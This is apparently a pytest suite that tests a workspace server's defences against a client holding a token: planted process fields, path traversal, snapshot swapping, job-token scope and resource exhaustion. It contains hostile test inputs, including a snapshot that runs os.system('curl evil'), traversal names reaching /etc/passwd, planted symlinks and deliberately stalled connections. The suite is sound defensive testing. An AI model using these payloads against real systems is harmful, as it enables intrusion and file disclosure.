"""The workspace server against an attacker holding a token: each defect a review reproduced
(planted process rows, paths out of the artifact root, swapped snapshots, 500s on bad
values, unbounded uploads and connections) and what a job's token may touch."""

from __future__ import annotations

import io
import socket
import time
import uuid
import zipfile
from pathlib import Path

import psutil
import pytest
import requests

from runyard import snapshot
from runyard import status as st
from runyard.errors import ConfigError, NotFoundError, PermissionDeniedError
from runyard.store.http import HttpArtifactStore, HttpStore
from runyard.studio.guard import HEAD_TIMEOUT_S
from server_service import start_server, stop_server

TOKEN = "security-suite-token-0123456789"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
#: a file dataset's spec of no file (runyard.store.asset_specs)
DATASET_SPEC = {"type": "file", "sources": [{"kind": "local", "base": "/data", "pattern": None}], "files": []}


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("secure-server")
    proc, url = start_server(f"sqlite:///{folder}/ws.db", folder / "artifacts", folder / "server.log", token=TOKEN)
    yield url, folder / "artifacts", proc
    stop_server(proc)


@pytest.fixture
def url(server) -> str:
    return server[0]


@pytest.fixture
def user(url) -> HttpStore:
    return HttpStore(url, TOKEN, retry_window=0)


def api(url: str) -> str:
    return f"{url}/api/v1"


def new_run(store: HttpStore, **fields) -> str:
    experiment = f"e{uuid.uuid4().hex[:8]}"
    row = {"run_id": f"{experiment}_{uuid.uuid4().hex[:8]}", "experiment": experiment, "run_type": "script",
           "status": st.QUEUED, **fields}
    return store.create_run(row)["run_id"]


def metric(run_id: str, value: float = 1.0) -> dict:
    return {"run_id": run_id, "name": "loss", "kind": "scalar", "value_num": value, "value_text": None,
            "logged_at": time.time()}


# -- the remote process kill -----------------------------------------------------------------
@pytest.mark.parametrize("field", ["host", "job_pid", "supervisor_pid", "job_started", "supervisor_started",
                                   "created_at", "run_number"])
def test_a_client_cannot_plant_process_fields(url, user, field):
    run = new_run(user)
    value = 1.0 if "started" in field or field == "created_at" else ("victim" if field == "host" else 4242)
    planted = {"run_id": f"planted_{uuid.uuid4().hex[:8]}", "experiment": "planted", "run_type": "script",
               "status": st.RUNNING, field: value}
    created = requests.post(f"{api(url)}/runs", json={"row": planted}, headers=AUTH, timeout=30)
    assert created.status_code == 422 and field in created.json()["message"]
    patched = requests.patch(f"{api(url)}/runs/{run}", json={"fields": {field: value}}, headers=AUTH, timeout=30)
    assert patched.status_code == 422 and field in patched.json()["message"]
    stored = user.get_run(run)
    assert stored["host"] is None and stored["job_pid"] is None and stored["supervisor_pid"] is None
    assert user.get_run(planted["run_id"]) is None


def test_status_changes_follow_the_state_machine(url, user):
    run = new_run(user)
    for body, code in (({"status": "Pwned"}, 422), ({"status": st.RUNNING, "fields": {}}, 422),
                       ({"status": st.RUNNING, "start_time": 1.0}, 422)):
        assert requests.post(f"{api(url)}/runs/{run}/status", json=body, headers=AUTH, timeout=30).status_code == code
    user.set_status(run, st.RUNNING)
    back = requests.post(f"{api(url)}/runs/{run}/status", json={"status": st.QUEUED}, headers=AUTH, timeout=30)
    assert back.status_code == 400 and "back" in back.json()["message"]


# -- paths out of the artifact root -------------------------------------------------------------
@pytest.mark.parametrize("run_id", ["%2e%2e", "..", "%2F", "a%00b", "x" * 300])
def test_run_ids_never_become_paths(server, run_id):
    url, artifacts, _proc = server
    before = sorted(p.relative_to(artifacts).as_posix() for p in artifacts.rglob("*")) if artifacts.exists() else []
    put = requests.put(f"{api(url)}/runs/{run_id}/files", params={"name": "planted.txt"}, data=b"x", headers=AUTH,
                       timeout=30)
    assert 400 <= put.status_code < 500
    listed = requests.get(f"{api(url)}/runs/{run_id}/files", headers=AUTH, timeout=30)
    assert 400 <= listed.status_code < 500
    after = sorted(p.relative_to(artifacts).as_posix() for p in artifacts.rglob("*")) if artifacts.exists() else []
    assert [p for p in after if p not in before and not p.startswith(".incoming")] == []


@pytest.mark.parametrize("name", ["a\x00b", "x" * 5000, "/".join(["d"] * 3000), "../x", "/etc/passwd"])
def test_bad_artifact_names_are_4xx(url, user, name):
    run = new_run(user)
    put = requests.put(f"{api(url)}/runs/{run}/files", params={"name": name}, data=b"x", headers=AUTH, timeout=30)
    assert 400 <= put.status_code < 500, put.text
    get = requests.get(f"{api(url)}/runs/{run}/files/content", params={"name": name}, headers=AUTH, timeout=30)
    assert 400 <= get.status_code < 500, get.text


# -- snapshots are what their hash says, and written once ------------------------------------
def zip_of(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def test_a_snapshot_is_stored_under_its_content_hash_only_and_once(url, tmp_path):
    source = tmp_path / "src"
    source.mkdir()
    (source / "train.py").write_text("print('honest')\n")
    taken = snapshot.take(source, tmp_path / "snaps")
    honest = taken.path.read_bytes()
    assert requests.put(f"{api(url)}/snapshots/{taken.hash}", data=honest, headers=AUTH, timeout=30).ok
    evil = zip_of({"train.py": b"import os; os.system('curl evil')\n"})
    swapped = requests.put(f"{api(url)}/snapshots/{taken.hash}", data=evil, headers=AUTH, timeout=30)
    assert swapped.status_code == 400 and "hash" in swapped.json()["message"]
    served = requests.get(f"{api(url)}/snapshots/{taken.hash}/content", headers=AUTH, timeout=30)
    assert served.content == honest
    for crafted in (zip_of({"../escape.py": b"x"}), zip_of({"/abs.py": b"x"}), b"PK not a zip"):
        answer = requests.put(f"{api(url)}/snapshots/{'cd' * 32}", data=crafted, headers=AUTH, timeout=30)
        assert answer.status_code == 400, answer.text


def test_a_downloaded_snapshot_is_checked_against_its_hash(url, server, tmp_path):
    """A snapshot changed on the server's disk (not through the API) is refused by the client."""
    _url, artifacts, _proc = server
    source = tmp_path / "src"
    source.mkdir()
    (source / "train.py").write_text("print('original')\n")
    taken = snapshot.take(source, tmp_path / "snaps")
    requests.put(f"{api(url)}/snapshots/{taken.hash}", data=taken.path.read_bytes(), headers=AUTH,
                 timeout=30).raise_for_status()
    (artifacts / "snapshots" / f"{taken.hash}.zip").write_bytes(zip_of({"train.py": b"print('changed')\n"}))
    files = HttpArtifactStore(HttpStore(url, TOKEN, retry_window=0), cache_dir=tmp_path / "cache")
    with pytest.raises(ConfigError, match="hash"):
        files.get_snapshot(taken.hash, tmp_path / "fetched")
    assert not (tmp_path / "fetched" / f"{taken.hash}.zip").exists()


def test_a_link_planted_among_the_snapshots_is_never_served_and_is_replaced(url, server, tmp_path):
    _url, artifacts, _proc = server
    source = tmp_path / "src"
    source.mkdir()
    (source / "train.py").write_text("print('linked')\n")
    taken = snapshot.take(source, tmp_path / "snaps")
    (artifacts / "snapshots").mkdir(parents=True, exist_ok=True)
    (artifacts / "snapshots" / f"{taken.hash}.zip").symlink_to("/etc/passwd")
    assert requests.get(f"{api(url)}/snapshots/{taken.hash}/content", headers=AUTH, timeout=30).status_code == 404
    assert requests.put(f"{api(url)}/snapshots/{taken.hash}", data=taken.path.read_bytes(), headers=AUTH,
                        timeout=30).ok
    assert not (artifacts / "snapshots" / f"{taken.hash}.zip").is_symlink()
    served = requests.get(f"{api(url)}/snapshots/{taken.hash}/content", headers=AUTH, timeout=30)
    assert served.content == taken.path.read_bytes()


def test_logs_are_read_only_from_the_runs_logs_folder(url, server, user):
    _url, artifacts, _proc = server
    run, other = new_run(user), new_run(user)
    logs = artifacts / "runs" / run / "logs"
    logs.mkdir(parents=True)
    (logs / "driver.log").write_bytes("naïve\n".encode())
    (logs / "passwd.log").symlink_to("/etc/passwd")  # planted: never listed, never served
    listed = requests.get(f"{api(url)}/runs/{run}/logs", headers=AUTH, timeout=30).json()
    assert listed == [{"name": "driver.log", "size": 7}]
    assert requests.get(f"{api(url)}/runs/{run}/logs/passwd.log", headers=AUTH, timeout=30).status_code == 404
    for name in ("%2E%2E", "..%2F..%2Fetc%2Fpasswd", ".hidden", "a%00b"):
        answer = requests.get(f"{api(url)}/runs/{run}/logs/{name}", headers=AUTH, timeout=30)
        assert answer.status_code in (404, 422), (name, answer.status_code)
    past = requests.get(f"{api(url)}/runs/{run}/logs/driver.log", params={"offset": 8}, headers=AUTH, timeout=30)
    assert past.status_code == 400 and past.json()["message"].startswith("offset: 8 is past the end")
    assert requests.get(f"{api(url)}/runs/{run}/logs/driver.log", params={"offset": -1}, headers=AUTH,
                        timeout=30).status_code == 422
    # a job reads its own run's log, not another run's
    user.set_status(other, st.RUNNING)
    job = {"Authorization": f"Bearer {user.issue_job_token(other)}"}
    assert requests.get(f"{api(url)}/runs/{run}/logs/driver.log", headers=job, timeout=30).status_code == 403
    assert requests.get(f"{api(url)}/runs/{run}/metric-names", headers=job, timeout=30).status_code == 403
    assert requests.post(f"{api(url)}/runs/{other}/cancel", headers=job, timeout=30).status_code == 403


def test_a_long_poll_answers_when_the_log_grows_and_when_the_run_ends(url, server, user):
    import threading
    _url, artifacts, _proc = server
    run = new_run(user)
    user.set_status(run, st.RUNNING)
    log = artifacts / "runs" / run / "logs" / "driver.log"
    log.parent.mkdir(parents=True)
    log.write_text("first\n")
    answers = []
    waiting = threading.Thread(target=lambda: answers.append(requests.get(
        f"{api(url)}/runs/{run}/logs/driver.log", params={"offset": 6, "wait": 30}, headers=AUTH, timeout=90)))
    waiting.start()
    time.sleep(1.0)
    assert not answers, answers[0].text  # nothing past the offset yet: still waiting
    with open(log, "a") as out:
        out.write("second\n")
    waiting.join(timeout=30)
    assert answers[0].json()["text"] == "second\n" and answers[0].json()["next_offset"] == 13
    user.set_status(run, st.COMPLETED)
    started = time.monotonic()
    ended = requests.get(f"{api(url)}/runs/{run}/logs/driver.log", params={"offset": 13, "wait": 30}, headers=AUTH,
                         timeout=90)
    assert ended.json()["text"] == "" and time.monotonic() - started < 15  # an ended run's log grows no more
    assert requests.get(f"{api(url)}/runs/{run}/logs/driver.log", params={"wait": 31}, headers=AUTH,
                        timeout=30).status_code == 422


def test_a_log_append_keeps_each_byte_once_and_only_for_a_running_run(url, server, user):
    _url, artifacts, _proc = server
    run, other = new_run(user), new_run(user)
    user.set_status(run, st.RUNNING)
    address = f"{api(url)}/runs/{run}/logs/driver.log"

    def append(offset, data: bytes, headers=AUTH, to=address):
        return requests.post(to, params={"offset": offset}, data=data, headers=headers, timeout=30)
    assert append(0, "naïve ".encode()).json() == {"name": "driver.log", "size": 7}
    assert append(0, "naïve ".encode()).json()["size"] == 7  # a retry adds nothing
    assert append(2, "ïve line\n".encode()).json()["size"] == 12  # the part past the end only
    past = append(99, b"gap")
    assert past.status_code == 409 and past.json()["message"].startswith("offset: 99 is past the end")
    assert (artifacts / "runs" / run / "logs" / "driver.log").read_bytes() == "naïve line\n".encode()
    assert append(12, b"x" * (1024 * 1024 + 1)).status_code == 413
    for name in ("..%2Fescape", ".hidden", "a%00b"):
        assert 400 <= append(0, b"x", to=f"{api(url)}/runs/{run}/logs/{name}").status_code < 500, name
    assert append(-1, b"x").status_code == 422
    assert requests.post(address, data=b"x", headers=AUTH, timeout=30).status_code == 422  # offset is required
    (artifacts / "runs" / run / "logs" / "planted.log").symlink_to("/tmp/planted-target")
    planted = append(0, b"x", to=f"{api(url)}/runs/{run}/logs/planted.log")
    assert planted.status_code == 400 and "link" in planted.json()["message"]
    assert not Path("/tmp/planted-target").exists()
    # a job appends to its own run's logs only
    user.set_status(other, st.RUNNING)
    job = {"Authorization": f"Bearer {user.issue_job_token(other)}"}
    assert append(12, b"more", headers=job).status_code == 403
    assert append(0, b"own", headers=job, to=f"{api(url)}/runs/{other}/logs/driver.log").status_code == 200
    user.set_status(run, st.COMPLETED)
    ended = append(12, b"late")
    assert ended.status_code == 409 and "ended" in ended.json()["message"]


def test_only_the_api_asks_for_the_token(url):
    assert requests.get(f"{api(url)}/workspace", timeout=30).status_code == 401
    assert requests.get(f"{url}/openapi.json", timeout=30).status_code == 200
    assert requests.get(f"{url}/API/v1/workspace", timeout=30).status_code == 404  # not the API, no file
    assert requests.get(f"{url}/%61pi/v1/workspace", timeout=30).status_code == 401  # decoded: the API


# -- 500s and unchecked values ------------------------------------------------------------
@pytest.mark.parametrize("path, body", [
    ("/metrics", {"rows": [{"run_id": "r", "name": "m", "kind": "bogus", "value_num": 1.0, "value_text": None,
                            "logged_at": 1.0}]}),
    ("/metrics", {"rows": [{"run_id": "r", "name": "m", "kind": "scalar", "value_num": "1", "value_text": None,
                            "logged_at": 1.0}]}),
    ("/metrics", {"rows": [{"run_id": "r", "name": "m", "kind": "scalar", "value_num": 1.0, "value_text": None,
                            "logged_at": "yesterday"}]}),
    ("/metrics", {"rows": [{"run_id": "r", "name": "m" * 100_000, "kind": "scalar", "value_num": 1.0,
                            "value_text": None, "logged_at": 1.0}]}),
    ("/runs", {"row": {"run_id": "r1", "experiment": "e", "run_type": "script", "status": "Pwned"}}),
    ("/runs/query", {"limit": 100_000}),
    ("/runs/query", {"metrics": [{"name": "loss", "op": "<", "value": "0.5"}]}),
    ("/runs/query", {"columns": ["loss"] * 51}),
    ("/runs/query", {"sort": "x" * 300}),
    ("/runs", {"row": {"run_id": "r1", "experiment": "e", "run_type": "script", "status": "Queued",
                       "run_number": "abc"}}),
])
def test_bad_values_are_422_naming_the_field(url, path, body):
    answer = requests.post(f"{api(url)}{path}", json=body, headers=AUTH, timeout=30)
    assert answer.status_code == 422, answer.text
    assert answer.json()["detail"][0]["field"].startswith("body")


def test_a_run_query_the_store_refuses_is_a_400_naming_the_field(url):
    answer = requests.post(f"{api(url)}/runs/query", json={"sort": "metrics:loss"}, headers=AUTH, timeout=30)
    assert answer.status_code == 400 and answer.json()["message"].startswith("sort: 'metrics:loss'")


def test_what_the_review_found_as_500s_is_4xx(url, user):
    run = new_run(user)
    row = user.get_run(run)
    again = requests.post(f"{api(url)}/runs", json={"row": {k: row[k] for k in ("run_id", "experiment", "run_type",
                                                                                 "status")}},
                          headers=AUTH, timeout=30)
    assert again.status_code == 409
    renamed = requests.patch(f"{api(url)}/runs/{run}", json={"fields": {"run_id": "other"}}, headers=AUTH, timeout=30)
    assert renamed.status_code == 422
    ghost = requests.post(f"{api(url)}/metrics", json={"rows": [metric("no_such_run")]}, headers=AUTH, timeout=30)
    assert ghost.status_code == 404
    tags = requests.put(f"{api(url)}/runs/no_such_run/tags", json={"tags": {"a": "b"}}, headers=AUTH, timeout=30)
    assert tags.status_code == 404
    assert user.get_metric_rows(["no_such_run"]) == []


def test_a_reused_idempotency_key_never_answers_another_request(url, user):
    run = new_run(user)
    key = {"Idempotency-Key": uuid.uuid4().hex, **AUTH}
    assert requests.put(f"{api(url)}/runs/{run}/tags", json={"tags": {"a": "1"}}, headers=key, timeout=30).ok
    other = requests.post(f"{api(url)}/runs/{run}/properties", json={"properties": {"p": "1"}}, headers=key,
                          timeout=30)
    assert other.status_code == 409 and "Idempotency-Key" in other.json()["message"]


# -- job tokens ------------------------------------------------------------------------------
def test_a_job_token_writes_only_its_own_run_and_the_runs_under_it(url, user, tmp_path):
    mine, other = new_run(user), new_run(user)
    user.set_status(mine, st.RUNNING)
    dataset = user.register_asset("dataset", f"ds{uuid.uuid4().hex[:6]}", DATASET_SPEC)
    job = HttpStore(url, user.issue_job_token(mine), retry_window=0)
    files = HttpArtifactStore(job, cache_dir=tmp_path / "cache")
    source = tmp_path / "f.txt"
    source.write_text("x")

    # its own run, and a child run it creates
    job.log_metrics([metric(mine)])
    job.set_tags(mine, {"phase": "train"})
    job.add_properties(mine, {"seed": "1"})
    files.put_file(mine, "outputs/model.txt", source)
    child = job.create_run({"run_id": f"{mine}_child", "experiment": user.get_run(mine)["experiment"],
                            "parent_id": mine, "run_type": "child", "status": st.RUNNING})["run_id"]
    job.log_metrics([metric(child)])
    assert job.set_status(child, st.COMPLETED) is True
    job.update_run(mine, error="the script reported a problem")
    assert [r["run_id"] for r in job.list_runs(parent_id=mine)] == [child]
    assert [r["run_id"] for r in job.query_runs(parent_id=mine)["runs"]] == [child]
    assert job.get_asset("dataset", dataset["name"])["id"] == dataset["id"]  # named: readable

    # everything else is refused with a 403 that says why
    refused = [
        lambda: job.log_metrics([metric(other)]),
        lambda: job.set_tags(other, {"a": "b"}),
        lambda: files.put_file(other, "outputs/evil.txt", source),
        lambda: files.list(other),
        lambda: job.get_metric_rows([other]),
        lambda: job.set_status(mine, st.COMPLETED),  # its own status is its supervisor's
        lambda: job.set_run_process(mine, host="victim", job_pid=1),
        lambda: job.issue_job_token(mine),
        lambda: job.create_run({"run_id": f"{other}_kid", "experiment": user.get_run(other)["experiment"],
                                "parent_id": other, "run_type": "child", "status": st.RUNNING}),
        lambda: job.create_run({"run_id": f"top_{uuid.uuid4().hex[:6]}", "experiment": "top", "run_type": "script",
                                "status": st.QUEUED}),
        lambda: job.list_experiments(),
        lambda: job.list_runs(experiment=user.get_run(other)["experiment"]),
        lambda: job.query_runs(experiment=user.get_run(other)["experiment"]),
        lambda: job.query_runs(parent_id=other),
        lambda: job.list_assets("dataset"),
        lambda: job.register_asset("dataset", "planted", DATASET_SPEC),
        lambda: job.register_assets("dataset", [{"name": "planted", "spec": DATASET_SPEC}]),
        lambda: job.register_assets("model", [{"name": "planted", "spec": DATASET_SPEC, "run_id": other}]),
        lambda: job.update_asset(dataset["id"], state="disabled"),
        lambda: job.save_compute_target("evil", "docker", {}),
        lambda: job.register_environment("evil", "ab" * 32, {}),
    ]
    for attempt in refused:
        with pytest.raises(PermissionDeniedError):
            attempt()
    assert user.get_tags(other) == {} and user.get_asset_by_id(dataset["id"])["state"] == "active"
    assert user.get_metric_rows([other]) == []


def test_a_job_token_dies_with_its_run(url, user):
    run = new_run(user)
    token = user.issue_job_token(run)
    job = HttpStore(url, token, retry_window=0)
    job.log_metrics([metric(run)])
    user.set_status(run, st.COMPLETED)
    with pytest.raises(ConfigError, match="refused the token"):
        job.log_metrics([metric(run)])
    with pytest.raises(ConfigError, match="ended"):
        user.issue_job_token(run)


def test_a_workspace_token_is_long_enough(tmp_path):
    import subprocess
    import sys
    from server_service import free_port, server_env
    done = subprocess.run([sys.executable, "-m", "runyard.cli", "server", "--store", f"sqlite:///{tmp_path}/ws.db",
                           "--artifacts", str(tmp_path / "art"), "--port", str(free_port()), "--token", "short"],
                          capture_output=True, text=True, timeout=120, env=server_env())
    assert done.returncode != 0 and "at least 16" in done.stderr


# -- bounded resources ------------------------------------------------------------------------
def test_slow_or_idle_connections_are_closed(url):
    host, port = url.removeprefix("http://").split(":")
    idle, slow = [], []
    for _ in range(25):
        sock = socket.create_connection((host, int(port)), timeout=HEAD_TIMEOUT_S + 10)
        idle.append(sock)
    for _ in range(25):
        sock = socket.create_connection((host, int(port)), timeout=HEAD_TIMEOUT_S + 10)
        sock.sendall(b"GET /api/v1/workspace HTTP/1.1\r\nHost: x\r\n")  # and then nothing more
        slow.append(sock)
    deadline = time.monotonic() + HEAD_TIMEOUT_S + 8
    closed = 0
    for sock in idle + slow:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            if sock.recv(1024) == b"":
                closed += 1
        except (TimeoutError, socket.timeout):
            pass
        except ConnectionResetError:
            closed += 1
        finally:
            sock.close()
    assert closed == 50
    assert requests.get(f"{api(url)}/workspace", headers=AUTH, timeout=30).ok  # and it still serves


def test_uploads_stream_to_disk(server, user, tmp_path):
    """Four 60 MB uploads at once: the server's memory grows by far less than what they carry."""
    import threading
    url, _artifacts, proc = server
    run = new_run(user)
    big = tmp_path / "big.bin"
    with open(big, "wb") as out:
        for _ in range(60):
            out.write(b"\x5a" * (1024 * 1024))
    process = psutil.Process(proc.pid)
    before = process.memory_info().rss
    peak = [before]
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            peak[0] = max(peak[0], process.memory_info().rss)
            time.sleep(0.02)

    watcher = threading.Thread(target=watch)
    watcher.start()
    files = HttpArtifactStore(HttpStore(url, TOKEN, retry_window=0), cache_dir=tmp_path / "cache")
    uploads = [threading.Thread(target=files.put_file, args=(run, f"outputs/big{i}.bin", big)) for i in range(4)]
    for upload in uploads:
        upload.start()
    for upload in uploads:
        upload.join()
    done.set()
    watcher.join()
    assert sorted(files.list(run)) == [f"outputs/big{i}.bin" for i in range(4)]
    assert peak[0] - before < 60 * 1024 * 1024, f"the server grew by {(peak[0] - before) / 1e6:.0f} MB"
    too_big = requests.put(f"{api(url)}/runs/{run}/files", params={"name": "huge.bin"}, headers=AUTH, timeout=120,
                           data=(b"\0" * (1024 * 1024) for _ in range(65)))
    assert too_big.status_code == 413
    assert "huge.bin" not in files.list(run)


def test_model_files_are_written_once(url, user, tmp_path):
    holder = f"model-{uuid.uuid4().hex}"
    model = user.register_asset("model", f"m{uuid.uuid4().hex[:6]}", {"path": "model.pkl", "holder": holder,
                                "prefix": "model.pkl", "files": ["model.pkl"]}, state="uploading", asset_id=holder)
    files = HttpArtifactStore(HttpStore(url, TOKEN, retry_window=0), cache_dir=tmp_path / "cache")
    first, second = tmp_path / "a.pkl", tmp_path / "b.pkl"
    first.write_bytes(b"weights-1")
    second.write_bytes(b"weights-2")
    files.put_file(model["id"], "model.pkl", first)
    files.put_file(model["id"], "model.pkl", first)  # the same bytes again: fine (a retry)
    with pytest.raises(ConfigError, match="other bytes"):
        files.put_file(model["id"], "model.pkl", second)
    import hashlib
    with pytest.raises(ConfigError, match="sha256"):
        files.put_file(model["id"], "other.pkl", second, sha256=hashlib.sha256(b"not these").hexdigest())
    assert files.download(model["id"], "model.pkl", tmp_path / "got.pkl").read_bytes() == b"weights-1"
    with pytest.raises(NotFoundError):
        files.download(model["id"], "other.pkl", tmp_path / "other.pkl")


def test_idempotency_records_are_pruned(tmp_path):
    from runyard.store.sql import SqlStore
    store = SqlStore(f"sqlite:///{tmp_path}/ws.db")
    store.apply_once("old", lambda: 1, request="POST /x")
    store.apply_once("new", lambda: 2, request="POST /x")
    import sqlalchemy as sa
    from runyard.store import schema as t
    with store.engine.begin() as conn:
        conn.execute(sa.update(t.applied_requests).where(t.applied_requests.c.key == "old").values(at=1.0))
    assert store.prune_applied_requests(3600) == 1
    with store.engine.connect() as conn:
        assert list(conn.execute(sa.select(t.applied_requests.c.key)).scalars()) == ["new"]


def test_a_submitted_job_holds_a_token_of_its_own_run_only(url, user, project):
    """The supervisor gives the job a job token, never the workspace's; the job writes its run
    and cannot touch another."""
    from runyard import Experiment, ScriptRunConfig, Workspace
    other = new_run(user)
    src = project({"train.py": f"""\
        import os
        from runyard import Run
        from runyard.errors import PermissionDeniedError
        token = os.environ["RUNYARD_TOKEN"]
        assert token.startswith("ryj_") and token != {TOKEN!r}, "the job holds the workspace token"
        run = Run.get_context()
        run.log("loss", 0.5)
        run.child_run("fold").log("score", 1.0)
        try:
            run.workspace._store.set_tags({other!r}, {{"pwned": "yes"}})
        except PermissionDeniedError as e:
            print("refused:", e)
        """})
    ws = Workspace.get(url, token=TOKEN)
    run = Experiment(ws, "jobtoken").submit(ScriptRunConfig(str(src), script="train.py"))
    details = run.wait_for_completion(raise_on_error=False, timeout=180)
    log = ws._artifacts.path(run.id, "logs/driver.log").read_text()
    assert details["status"] == st.COMPLETED, log
    assert "refused: " in log
    assert run.get_metrics() == {"loss": 0.5}
    assert user.get_tags(other) == {}
